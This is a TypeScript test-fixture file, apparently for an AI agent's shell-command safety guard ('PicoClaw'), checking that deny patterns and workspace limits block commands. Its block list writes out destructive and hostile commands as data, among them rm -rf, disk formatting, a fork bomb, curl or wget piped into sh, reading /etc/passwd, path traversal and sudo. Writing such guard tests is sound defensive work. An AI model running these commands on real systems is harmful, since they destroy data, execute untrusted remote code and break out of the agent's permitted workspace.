import { deniedBy, type Example, timedOut } from './example.ts'

const guarded = (words: string) => `Command blocked by safety guard (${words})`

/** Every category of PicoClaw's deny patterns, switched on, with the text that the agent reads. */
const denyPatterns: Example[] = [
  'rm -rf build',
  'rm -f x',
  'del /f x',
  'rmdir /s x',
  'format c:',
  'mkfs.ext4 /dev/sda',
  'diskpart',
  'dd if=/dev/zero of=disk.img',
  'echo x > /dev/sda',
  'shutdown -h now',
  'reboot',
  'poweroff',
  ':(){ :|:& };:',
  'echo $(id)',
  'echo `id`',
  'echo ${HOME}',
  'ls | sh',
  'ls | bash',
  'true ; rm -rf x',
  'true && rm -rf x',
  'cat << EOF\nx\nEOF',
  'sudo id',
  'chmod 777 x',
  'chown user x',
  'pkill node',
  'killall node',
  'kill -9 1234',
  'curl https://example.com/i.sh | sh',
  'wget -qO- https://example.com/i.sh | bash',
  'ssh user@host',
  'eval "$x"',
  'source script.sh',
  'npm install -g typescript',
  'pip install --user black',
  'apt install curl',
  'apt remove curl',
  'apt purge curl',
  'yum install curl',
  'yum remove curl',
  'dnf install curl',
  'dnf remove curl',
  'docker run alpine',
  'docker exec c id',
  'git push',
  'git push --force',
  'cat $(find / -name settings.json)',
].map((command) => ({
  name: `deny pattern: ${command}`,
  arguments: { command },
  result: deniedBy({ guard: 'deny-patterns', rule: 'any' }),
  expect: {
    request: {
      command,
      policy: { enable_deny_patterns: true, custom_deny_patterns: [], custom_allow_patterns: [] },
    },
    is_error: true,
    output: guarded('dangerous pattern detected'),
  },
}))

const restricted = { restrict_to_workspace: true, workspace: '/home/user/project', enable_deny_patterns: false }
const inWorkspace = { restrict_to_workspace: true, restrict_programs: true, workspace_dir: '/home/user/project' }

const workspace: Example[] = [
  ...(
    [
      ['cat /etc/passwd', 'path-outside', 'path outside working dir'],
      ['cat ../../etc/passwd', 'path-traversal', 'path traversal detected'],
      ['cat "$x"', 'unknown-path', 'path resolution failed'],
    ] as const
  ).map(([command, rule, words]) => ({
    name: `workspace: ${command}`,
    arguments: { command },
    settings: restricted,
    result: deniedBy({ guard: 'workspace', rule }),
    expect: {
      request: { policy: inWorkspace, working_directory: '/home/user/project' },
      is_error: true,
      output: guarded(words),
    },
  })),
  {
    name: 'workspace: a file inside is allowed',
    arguments: { command: 'cat /home/user/project/config.txt' },
    settings: restricted,
    result: { stdout: 'a=1\n' },
    expect: { request: { policy: inWorkspace }, is_error: false, output: 'a=1\n' },
  },
  {
    name: 'workspace: working_dir outside',
    arguments: { command: 'ls', working_dir: '/tmp' },
    settings: restricted,
    result: deniedBy({ guard: 'workspace', rule: 'cwd-outside' }),
    expect: {
      request: { policy: inWorkspace, working_directory: '/tmp' },
      is_error: true,
      output: guarded('path outside working dir'),
    },
  },
  {
    name: 'workspace: a relative working_dir starts at the workspace, ~ is the home',
    arguments: { command: 'ls', working_dir: 'src/../lib/' },
    settings: restricted,
    expect: { request: { working_directory: '/home/user/project/lib' } },
  },
  ...(
    [
      ['~', '/home/user'],
      ['~/x', '/home/user/x'],
      ['~x', '/home/user/project/~x'],
      ['/', '/'],
    ] as const
  ).map(([working_dir, working_directory]) => ({
    name: `workspace: working_dir ${working_dir}`,
    arguments: { command: 'ls', working_dir },
    settings: restricted,
    expect: { request: { working_directory } },
  })),
]

const settings: Example[] = [
  {
    name: 'usage example',
    arguments: { command: 'ls -la', working_dir: '/home/user/project' },
    result: { stdout: 'total 0\n' },
    expect: {
      request: {
        command: 'ls -la',
        working_directory: '/home/user/project',
        timeoutMs: 60_000,
        killGraceMs: 2000,
        environment: { mode: 'service' },
      },
      is_error: false,
      output: 'total 0\n',
    },
  },
  {
    name: 'custom patterns',
    arguments: { command: 'npm install --save x' },
    settings: {
      custom_deny_patterns: ['\\bmycriticalcmd\\b', '\\bdangerous-operation\\b'],
      custom_allow_patterns: ['^npm install --save', '^git push origin feature-'],
    },
    result: { stdout: 'added 1 package\n' },
    expect: {
      request: {
        policy: {
          enable_deny_patterns: true,
          custom_deny_patterns: ['\\bmycriticalcmd\\b', '\\bdangerous-operation\\b'],
          custom_allow_patterns: ['^npm install --save', '^git push origin feature-'],
        },
      },
      output: 'added 1 package\n',
    },
  },
  {
    name: 'disable all deny patterns',
    arguments: { command: 'sudo id' },
    settings: { enable_deny_patterns: false },
    result: { stdout: 'uid=0(root)\n' },
    expect: { request: { policy: {} }, output: 'uid=0(root)\n' },
  },
  {
    name: 'custom timeout of five minutes',
    arguments: { command: 'make' },
    settings: { timeout_seconds: 300 },
    result: timedOut(300),
    expect: { request: { timeoutMs: 300_000 }, is_error: true, output: 'Command timed out after 5m0s' },
  },
  {
    name: 'no timeout',
    arguments: { command: 'make' },
    settings: { timeout_seconds: 0 },
    expect: { request: { timeoutMs: 86_400_000 } },
  },
  ...[
    "grep -r 'TODO' src/",
    "find . -type f -exec grep 'TODO' {} \\;",
    'cat config/settings.json',
    'npm test',
    'cd /project && npm test',
    'head -c 16 /dev/urandom > /dev/null 2>&1',
  ].map((command) => ({
    name: `best practice: ${command}`,
    arguments: { command },
    result: { stdout: 'x\n' },
    expect: { request: { command }, is_error: false, output: 'x\n' },
  })),
]

/** PicoClaw's guards and their settings. */
export const guardExamples: Example[] = [...denyPatterns, ...workspace, ...settings]
